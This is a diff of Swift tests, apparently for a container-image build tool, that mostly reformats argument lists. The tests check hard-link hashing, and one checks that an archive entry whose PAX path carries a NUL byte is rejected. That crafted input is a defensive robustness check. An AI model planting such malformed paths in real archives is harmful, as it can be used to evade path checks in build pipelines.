+            files.append(("app/server/public/ax.js", F, b"nul"))
+            pax = {"app/server/public/ax.js": {"path": "app/server/public/a\0x.js"}}
+        docker_archive(out, [layer(files, pax=pax)], {"config": {"Env": ["PATH=/bin"]}})
+        """#
 
     @Test func aHardLinkedFrontendFileIsHashedAsItsTarget() throws {
         let dir = try tempDir()
         let made = try python(Self.linkedFrontend, [dir + "/base.tar", "hardlink"])
         try #require(made.status == 0, "\(made.err)")
-        let r = try stamp(["build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--output", dir + "/o.tar", "--json"])
+        let r = try stamp([
+            "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--output",
+            dir + "/o.tar", "--json",
+        ])
         #expect(r.status == 0, "\(r.err)")
         let v = try stamp(["verify", dir + "/o.tar"])
         #expect(v.status == 0, "\(v.out)\(v.err)")
         // The renamed a.js holds b.js's bytes.
         #expect(try run(["umoci", "--version"]).status == 0)
-        let listingOut = try run(["sh", "-c", "bsdtar -xOf '\(dir)/o.tar' $(bsdtar -xOf '\(dir)/o.tar' manifest.json | jq -r '.[0].Layers[-1]') | bsdtar -tf -"]).out
+        let listingOut = try run([
+            "sh", "-c",
+            "bsdtar -xOf '\(dir)/o.tar' $(bsdtar -xOf '\(dir)/o.tar' manifest.json | jq -r '.[0].Layers[-1]') | bsdtar -tf -",
+        ]).out
         #expect(listingOut.contains("app/server/public/a."), "\(listingOut)")
     }
 
@@ -614,9 +704,11 @@ import OCI
         let dir = try tempDir()
         let made = try python(Self.linkedFrontend, [dir + "/base.tar", "nul"])
         try #require(made.status == 0, "\(made.err)")
-        let r = try stamp(["build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--output", dir + "/o.tar"])
+        let r = try stamp([
+            "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--hash-assets", "--output",
+            dir + "/o.tar",
+        ])
         oneLine(r, "holds a NUL byte")
         #expect(listing(dir) == ["base.tar"])
     }
 }
-
